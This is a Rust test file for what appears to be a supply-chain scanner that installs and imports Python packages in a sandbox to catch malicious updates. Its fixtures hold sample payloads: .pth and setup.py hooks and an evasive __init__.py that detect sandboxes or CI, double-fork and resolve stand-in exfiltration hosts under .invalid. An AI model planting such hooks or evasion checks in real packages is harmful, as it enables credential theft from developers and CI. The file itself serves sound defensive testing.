//! `turncoat diff OLD NEW --detonate` on Python releases: wheels and sdists built here, installed
//! with the real `pip` in the sandbox (no network, honeytokens planted), started and imported;
//! what the new release does that the old one did not becomes a `detonation-*` finding whose
//! evidence names the moment (`detonation:install-time`, `:interpreter-start`, `:import-time`).
//!
//! Hermetic: the files are local, pip runs with `--no-index`, and the only names the payloads
//! ask for are under `.invalid`. The tests need `python3` (with pip and setuptools) and `sh`, and
//! skip with a message on stderr when they are missing (`TURNCOAT_TEST_REQUIRE_TOOLS=1` turns the
//! skip into a failure).

#![allow(
    clippy::print_stderr,
    reason = "a skipped test says why on stderr instead of passing silently"
)]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

mod common;

const BIN: &str = env!("CARGO_BIN_EXE_turncoat");

/// A wheel of project `demo_pkg` at `version` with `files` (path, text) besides its
/// `.dist-info` (METADATA, WHEEL, RECORD).
fn wheel(version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    wheel_of("demo_pkg", version, files)
}

/// A wheel of `project` (its file-name spelling) at `version`.
fn wheel_of(project: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let info = format!("{project}-{version}.dist-info");
    let mut all: Vec<(String, String)> = files
        .iter()
        .map(|(p, d)| ((*p).to_string(), (*d).to_string()))
        .collect();
    all.push((
        format!("{info}/METADATA"),
        format!(
            "Metadata-Version: 2.1\nName: {}\nVersion: {version}\n",
            project.replace('_', "-")
        ),
    ));
    all.push((
        format!("{info}/WHEEL"),
        "Wheel-Version: 1.0\nGenerator: turncoat-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
            .into(),
    ));
    let mut record: String = all
        .iter()
        .map(|(p, d)| {
            use base64::Engine as _;
            use sha2::Digest as _;
            let h = base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(sha2::Sha256::digest(d.as_bytes()));
            format!("{p},sha256={h},{}\n", d.len())
        })
        .collect();
    record.push_str(&format!("{info}/RECORD,,\n"));
    all.push((format!("{info}/RECORD"), record));
    for (p, d) in all {
        w.start_file(p, zip::write::SimpleFileOptions::default())
            .expect("zip entry");
        w.write_all(d.as_bytes()).expect("zip write");
    }
    w.finish().expect("zip").into_inner()
}

/// An sdist `demo-pkg-VERSION.tar.gz` with `setup.py` (setuptools) and one module.
fn sdist(version: &str, setup_prelude: &str) -> Vec<u8> {
    let top = format!("demo-pkg-{version}");
    let files = [
        (
            "PKG-INFO",
            format!("Metadata-Version: 2.1\nName: demo-pkg\nVersion: {version}\n"),
        ),
        (
            "setup.py",
            format!(
                "{setup_prelude}\nfrom setuptools import setup\nsetup(name='demo-pkg', version='{version}', py_modules=['demo_pkg'])\n"
            ),
        ),
        ("demo_pkg.py", "VALUE = 1\n".to_string()),
    ];
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (p, d) in files {
        let mut h = tar::Header::new_ustar();
        h.set_size(d.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(1_700_000_000);
        h.set_entry_type(tar::EntryType::Regular);
        tar.append_data(&mut h, format!("{top}/{p}"), d.as_bytes())
            .expect("tar entry");
    }
    tar.into_inner().and_then(|gz| gz.finish()).expect("gzip")
}

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().expect("tempdir");
        for sub in ["home", "tmp", "cache"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("mkdir");
        }
        World { dir }
    }

    fn write(&self, name: &str, data: &[u8]) -> PathBuf {
        let p = self.dir.path().join(name);
        std::fs::write(&p, data).expect("write");
        p
    }

    /// `turncoat diff OLD NEW --format json [--detonate]`, with only PATH from the environment.
    fn diff(&self, old: &Path, new: &Path, detonate: bool) -> (Output, String) {
        let cache = self.dir.path().join("cache");
        let mut args: Vec<&str> = vec![
            "diff",
            old.to_str().expect("utf-8"),
            new.to_str().expect("utf-8"),
            "--cache-dir",
            cache.to_str().expect("utf-8"),
            "--format",
            "json",
            "--quiet",
        ];
        if detonate {
            args.extend(["--detonate", "--detonate-timeout", "60"]);
        }
        let out = Command::new(BIN)
            .args(&args)
            .current_dir(self.dir.path())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.dir.path().join("home"))
            .env("TMPDIR", self.dir.path().join("tmp"))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .output()
            .expect("run turncoat");
        let report = format!(
            "\n--- turncoat {}\n--- exit: {:?}\n--- stdout\n{}\n--- stderr\n{}\n",
            args.join(" "),
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out, report)
    }
}

fn ready(test: &str) -> bool {
    if !common::have_tools(test, &["python3", "sh"]) {
        return false;
    }
    // The interpreter the detonation will use (not a pyenv shim).
    let pip = turncoat_sandbox::detonate_python::find_python().is_some_and(|py| {
        Command::new(py)
            .args(["-c", "import setuptools, pip"])
            .output()
            .is_ok_and(|o| o.status.success())
    });
    if !pip {
        assert!(
            std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_none(),
            "{test}: python3 has no pip/setuptools and TURNCOAT_TEST_REQUIRE_TOOLS is set"
        );
        eprintln!("SKIPPED {test}: python3 has no pip or setuptools");
        return false;
    }
    true
}

/// The one package of a JSON report.
#[track_caller]
fn the_package(out: &Output, report: &str) -> Value {
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not JSON ({e}){report}"));
    v["packages"][0].clone()
}

fn detonation_finding<'a>(pkg: &'a Value, code: &str) -> Option<&'a Value> {
    pkg["findings"]
        .as_array()?
        .iter()
        .find(|f| f["code"] == code)
}

/// `(path, snippet)` of a finding's evidence.
fn evidence(f: &Value) -> Vec<(String, String)> {
    f["evidence"]
        .as_array()
        .map(|es| {
            es.iter()
                .map(|e| {
                    (
                        e["path"].as_str().unwrap_or("").to_string(),
                        e["snippet"].as_str().unwrap_or("").to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// The evidence item whose snippet names `host`, if any.
fn stage_of(f: &Value, host: &str) -> Option<String> {
    evidence(f)
        .into_iter()
        .find(|(_, s)| s.contains(host))
        .map(|(p, _)| p)
}

const OLD_INIT: &str = "VALUE = 1\n";

#[test]
fn a_new_pth_that_reads_the_environment_and_resolves_an_exfil_name_is_caught_at_interpreter_start()
{
    if !ready("pth_exfil") {
        return;
    }
    let w = World::new();
    let old = w.write(
        "demo_pkg-1.0.0-py3-none-any.whl",
        &wheel("1.0.0", &[("demo_pkg/__init__.py", OLD_INIT)]),
    );
    // The environment's size in the name: the chunk a real payload would encode.
    let pth = "import os, socket; exec(\"try:\\n socket.getaddrinfo('e%d.pthchunk.exfil.invalid' % len(os.environ), 443)\\nexcept Exception:\\n pass\")\n";
    let new = w.write(
        "demo_pkg-1.0.1-py3-none-any.whl",
        &wheel(
            "1.0.1",
            &[
                ("demo_pkg/__init__.py", OLD_INIT),
                ("demo_pkg_hook.pth", pth),
            ],
        ),
    );
    let (out, r) = w.diff(&old, &new, true);
    assert_eq!(out.status.code(), Some(1), "{r}");
    let pkg = the_package(&out, &r);
    assert_eq!(pkg["verdict"], "block", "{r}");
    let net = detonation_finding(&pkg, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network{r}"));
    assert_eq!(net["level"], "deny", "{r}");
    let stage = stage_of(net, "pthchunk.exfil.invalid").unwrap_or_else(|| panic!("host{r}"));
    assert_eq!(stage, "detonation:interpreter-start", "{r}");
    assert_eq!(
        pkg["detonation"]["previous"], "1.0.0",
        "the old release was detonated to compare: {r}"
    );
    let stages = pkg["detonation"]["stages"].to_string();
    for s in ["install-time", "interpreter-start", "import-time"] {
        assert!(stages.contains(s), "{s}: {r}");
    }

    // The control: without --detonate no detonation finding (the static rules still block).
    let (out, r) = w.diff(&old, &new, false);
    let pkg = the_package(&out, &r);
    assert!(
        detonation_finding(&pkg, "detonation-network").is_none(),
        "{r}"
    );
}

#[test]
fn an_sdist_whose_setup_py_connects_at_build_is_caught_at_install_time() {
    if !ready("sdist_build") {
        return;
    }
    let w = World::new();
    let old = w.write("demo-pkg-1.0.0.tar.gz", &sdist("1.0.0", ""));
    // Connects at every build; resolves a second name only when built in CI; then fails the
    // build (the payload has run: the failure must not hide it).
    let prelude = "import os, socket\ntry:\n    socket.create_connection(('build.exfil.invalid', 443), timeout=3)\nexcept Exception:\n    pass\nif os.environ.get('GITHUB_ACTIONS'):\n    try:\n        socket.getaddrinfo('cibuild.exfil.invalid', 443)\n    except Exception:\n        pass\nraise SystemExit('the build fails after the payload ran')\n";
    let new = w.write("demo-pkg-1.0.1.tar.gz", &sdist("1.0.1", prelude));
    let (out, r) = w.diff(&old, &new, true);
    assert_eq!(out.status.code(), Some(1), "{r}");
    let pkg = the_package(&out, &r);
    let net = detonation_finding(&pkg, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network{r}"));
    assert_eq!(
        stage_of(net, "build.exfil.invalid").as_deref(),
        Some("detonation:install-time"),
        "{r}"
    );
    assert_eq!(
        stage_of(net, "cibuild.exfil.invalid").as_deref(),
        Some("detonation:install-time-ci"),
        "{r}"
    );
    let stages = pkg["detonation"]["stages"].to_string();
    assert!(stages.contains("install-time (pip failed)"), "{r}");
}

#[test]
fn a_benign_update_detonates_clean() {
    if !ready("benign") {
        return;
    }
    let w = World::new();
    let old = w.write(
        "demo_pkg-1.0.0-py3-none-any.whl",
        &wheel("1.0.0", &[("demo_pkg/__init__.py", OLD_INIT)]),
    );
    let new = w.write(
        "demo_pkg-1.0.1-py3-none-any.whl",
        &wheel(
            "1.0.1",
            &[
                (
                    "demo_pkg/__init__.py",
                    "VALUE = 2\n\ndef twice(x):\n    return 2 * x\n",
                ),
                ("demo_pkg/util.py", "import json\nDUMP = json.dumps\n"),
            ],
        ),
    );
    let (out, r) = w.diff(&old, &new, true);
    assert_eq!(out.status.code(), Some(0), "{r}");
    let pkg = the_package(&out, &r);
    assert_eq!(pkg["verdict"], "pass", "{r}");
    let codes: Vec<&str> = pkg["findings"]
        .as_array()
        .map(|fs| fs.iter().filter_map(|f| f["code"].as_str()).collect())
        .unwrap_or_default();
    assert!(
        !codes.iter().any(|c| c.starts_with("detonation-")),
        "{codes:?}{r}"
    );
    // It did run: the stages and a non-trivial number of events (pip, the interpreters).
    assert!(pkg["detonation"]["events"].as_u64().unwrap_or(0) > 0, "{r}");
    assert_eq!(pkg["detonation"]["timed_out"], false, "{r}");
    assert!(
        !pkg["detonation"]["stages"].to_string().contains("failed"),
        "the wheel installed: {r}"
    );
}

/// The attacker's view: payloads that look for signs of a sandbox or of CI before acting, one
/// that double-forks and acts after its parents are gone, one in `sitecustomize.py`.
#[test]
fn evasive_payloads_are_still_seen() {
    if !ready("evasive") {
        return;
    }
    let w = World::new();
    let old = w.write(
        "demo_pkg-1.0.0-py3-none-any.whl",
        &wheel("1.0.0", &[("demo_pkg/__init__.py", OLD_INIT)]),
    );
    // Acts only on what looks like a developer's machine: no CI variable, nothing in the
    // environment naming turncoat, a sandbox or npm's lifecycle, no such word in its paths.
    let init = r#"import os, socket, sys, time
VALUE = 1
def _ask(host):
    try:
        socket.getaddrinfo(host, 443)
    except Exception:
        pass
_env = " ".join("%s=%s" % kv for kv in os.environ.items()).lower()
_tells = [t for t in ("turncoat", "sandbox", "detonat", "npm_lifecycle", "npm_package") if t in _env]
_tells += [k for k in os.environ if k.startswith("npm_") or k.startswith("TURNCOAT")]
if "turncoat" in os.getcwd().lower() or "turncoat" in os.path.expanduser("~").lower():
    _tells.append("path")
if not _tells and "CI" not in os.environ:
    _ask("devonly.exfil.invalid")
if os.environ.get("CI") == "true" and os.environ.get("GITHUB_ACTIONS"):
    _ask("cionly.exfil.invalid")
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(1.0)
        _ask("forked.exfil.invalid")
    os._exit(0)
"#;
    let site = "import socket\ntry:\n    socket.getaddrinfo('sitecustom.exfil.invalid', 443)\nexcept Exception:\n    pass\n";
    let new = w.write(
        "demo_pkg-1.0.1-py3-none-any.whl",
        &wheel(
            "1.0.1",
            &[("demo_pkg/__init__.py", init), ("sitecustomize.py", site)],
        ),
    );
    let (out, r) = w.diff(&old, &new, true);
    assert_eq!(out.status.code(), Some(1), "{r}");
    let pkg = the_package(&out, &r);
    let net = detonation_finding(&pkg, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network{r}"));
    let snippets: Vec<String> = evidence(net).into_iter().map(|(_, s)| s).collect();
    let message = net["message"].as_str().unwrap_or("");
    for host in [
        "devonly.exfil.invalid",
        "cionly.exfil.invalid",
        "forked.exfil.invalid",
        "sitecustom.exfil.invalid",
    ] {
        assert!(
            snippets.iter().any(|s| s.contains(host)),
            "{host} not seen: {message} {snippets:#?}{r}"
        );
    }
    assert_eq!(
        stage_of(net, "devonly.exfil.invalid").as_deref(),
        Some("detonation:import-time"),
        "{r}"
    );
    assert_eq!(
        stage_of(net, "cionly.exfil.invalid").as_deref(),
        Some("detonation:import-time-ci"),
        "{r}"
    );
}

/// No interpreter to detonate with: the run fails closed (exit 2) and says why, instead of
/// judging statically as if the detonation had been clean.
#[test]
fn no_python_fails_closed() {
    let w = World::new();
    let old = w.write(
        "demo_pkg-1.0.0-py3-none-any.whl",
        &wheel("1.0.0", &[("demo_pkg/__init__.py", OLD_INIT)]),
    );
    let new = w.write(
        "demo_pkg-1.0.1-py3-none-any.whl",
        &wheel("1.0.1", &[("demo_pkg/__init__.py", "VALUE = 2\n")]),
    );
    let bin = w.dir.path().join("bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    std::os::unix::fs::symlink("/bin/sh", bin.join("sh")).expect("symlink");
    let out = Command::new(BIN)
        .args([
            "diff",
            old.to_str().expect("utf-8"),
            new.to_str().expect("utf-8"),
            "--detonate",
            "--format",
            "json",
            "--quiet",
        ])
        .current_dir(w.dir.path())
        .env_clear()
        .env("PATH", &bin)
        .env("HOME", w.dir.path().join("home"))
        .env("TMPDIR", w.dir.path().join("tmp"))
        .stdin(Stdio::null())
        .output()
        .expect("run turncoat");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("python3"), "{stderr}");
    assert!(stderr.contains("detonation failed"), "{stderr}");
}

/// Two Python lockfiles (the bundled `demo --pypi` world: requirements.txt and a `file://`
/// index): each changed release's hash-checked file is detonated. humanize-lite 2.4.1 posts the
/// AWS variables with `urllib` at import: the finding names `import-time` (the client resolved
/// the name itself, so the query carries the process and its stage); tinyfmt's version-only
/// update detonates clean.
#[test]
fn python_lockfiles_are_detonated_release_by_release() {
    if !ready("lockfiles") {
        return;
    }
    let w = World::new();
    let demo = w.dir.path().join("demo");
    let kept = Command::new(BIN)
        .args(["demo", "--pypi", "--keep"])
        .arg(&demo)
        .arg("--quiet")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", w.dir.path().join("home"))
        .env("TMPDIR", w.dir.path().join("tmp"))
        .stdin(Stdio::null())
        .output()
        .expect("run turncoat demo");
    assert_eq!(kept.status.code(), Some(0), "{kept:?}");
    let index = format!("file://{}/", demo.join("simple").display());
    let out = Command::new(BIN)
        .arg("diff")
        .arg(demo.join("base/requirements.txt"))
        .arg(demo.join("head/requirements.txt"))
        .args([
            "--index-url",
            &index,
            "--detonate",
            "--format",
            "json",
            "--quiet",
        ])
        .arg("--cache-dir")
        .arg(w.dir.path().join("cache"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", w.dir.path().join("home"))
        .env("TMPDIR", w.dir.path().join("tmp"))
        .stdin(Stdio::null())
        .output()
        .expect("run turncoat diff");
    let r = format!(
        "\n--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "{r}");
    let report: Value = serde_json::from_slice(&out.stdout).expect("json");
    let pkg = |name: &str| {
        report["packages"]
            .as_array()
            .and_then(|ps| ps.iter().find(|p| p["name"] == name))
            .cloned()
            .unwrap_or_else(|| panic!("no {name}{r}"))
    };
    let hl = pkg("humanize-lite");
    let net = detonation_finding(&hl, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network{r}"));
    assert_eq!(
        stage_of(net, "telemetry.humanize-lite.invalid").as_deref(),
        Some("detonation:import-time"),
        "{r}"
    );
    let tf = pkg("tinyfmt");
    assert_eq!(tf["verdict"], "pass", "{r}");
    assert!(tf["detonation"]["stages"].is_array(), "{r}");
}

/// A newly added dependency whose only release is its first: nothing to compare with, so
/// detonation reports all it does. Its `.pth` resolves a name at every interpreter start.
#[test]
fn a_first_release_is_detonated_alone() {
    if !ready("first_release") {
        return;
    }
    use sha2::Digest as _;
    let w = World::new();
    let mirror = w.dir.path().join("mirror");
    std::fs::create_dir_all(mirror.join("files")).expect("mkdir");
    std::fs::create_dir_all(mirror.join("simple/firstpkg")).expect("mkdir");
    let file = "firstpkg-1.0.0-py3-none-any.whl";
    let pth = "import socket; exec(\"try:\\n socket.getaddrinfo('first.exfil.invalid', 443)\\nexcept Exception:\\n pass\")\n";
    let bytes = wheel_of(
        "firstpkg",
        "1.0.0",
        &[("firstpkg/__init__.py", "X = 1\n"), ("firstpkg.pth", pth)],
    );
    std::fs::write(mirror.join("files").join(file), &bytes).expect("write");
    let sha: String = sha2::Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let page = serde_json::json!({"meta": {"api-version": "1.1"}, "name": "firstpkg", "files": [{
        "filename": file, "url": format!("../../files/{file}"), "hashes": {"sha256": sha},
        "upload-time": "2026-12-01T00:00:00Z"}]});
    std::fs::write(mirror.join("simple/firstpkg/index.json"), page.to_string()).expect("write");
    let base = w.write("base-requirements.txt", b"");
    let head = w.write(
        "requirements.txt",
        format!("firstpkg==1.0.0 --hash=sha256:{sha}\n").as_bytes(),
    );
    let index = format!("file://{}/simple/", mirror.display());
    let out = Command::new(BIN)
        .arg("diff")
        .arg(&base)
        .arg(&head)
        .args([
            "--index-url",
            &index,
            "--detonate",
            "--format",
            "json",
            "--quiet",
        ])
        .arg("--cache-dir")
        .arg(w.dir.path().join("cache"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", w.dir.path().join("home"))
        .env("TMPDIR", w.dir.path().join("tmp"))
        .stdin(Stdio::null())
        .output()
        .expect("run turncoat diff");
    let r = format!(
        "\n--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "{r}");
    let pkg = the_package(&out, &r);
    assert_eq!(pkg["change"], "added", "{r}");
    let net = detonation_finding(&pkg, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network{r}"));
    assert_eq!(
        stage_of(net, "first.exfil.invalid").as_deref(),
        Some("detonation:interpreter-start"),
        "{r}"
    );
    assert!(pkg["detonation"]["previous"].is_null(), "{r}");
}
